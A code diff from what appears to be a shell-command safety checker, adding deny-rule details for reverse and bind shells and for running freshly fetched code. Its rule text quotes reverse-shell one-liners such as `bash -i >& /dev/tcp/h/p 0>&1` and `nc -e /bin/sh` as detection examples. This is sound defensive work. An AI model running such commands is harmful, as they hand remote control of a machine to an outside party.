@@ -72,6 +72,7 @@ DEV_TCP = lazyre.compile(r"/dev/(tcp|udp)/[^/\s]+/\d+")
     verdict="deny",
     floor=True,
     kind="action",
+    always="a socket redirect (`>& /dev/tcp/h/p`) can follow any program: the rule's own scan is the index",
     title="Opens a reverse or bind shell",
     what="A shell wired to a network socket: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `ncat --exec`, "
     "`socat exec:…`, `mkfifo … | nc`, Python/Perl socket+dup2 one-liners.",
@@ -151,8 +152,14 @@ def download_then_run(a: Analysis) -> str | None:
     return None
 
 
+#: Programs that can bring code here (`_fetches` reads their arguments).
+FETCHERS = frozenset({"git", "hg", "gh", "glab", "svn", "tar", "bsdtar", "unzip", "7z", "7za", "unrar"})
+
+
 def _fetches(c: Command) -> bool:
     """Could this command bring code here: a clone, a checkout, an archive unpacked."""
+    if c.name not in FETCHERS:
+        return False
     w = [x.value for x in c.argv[1:3]]
     if c.name in ("git", "hg"):
         return bool(w) and w[0] in ("clone", "submodule")
@@ -168,6 +175,8 @@ def _fetches(c: Command) -> bool:
     category="remote-exec",
     verdict="deny",
     kind="action",
+    needs={"effect:write"},  # a download
+    when=lambda name: name in FETCHERS,
     title="Runs code it fetched in the same action",
     what="A place whose content came from elsewhere in this action (a downloaded file, a cloned repository, an archive "
     "from the network or a download folder unpacked) whose code then runs: the program itself, an interpreter's "
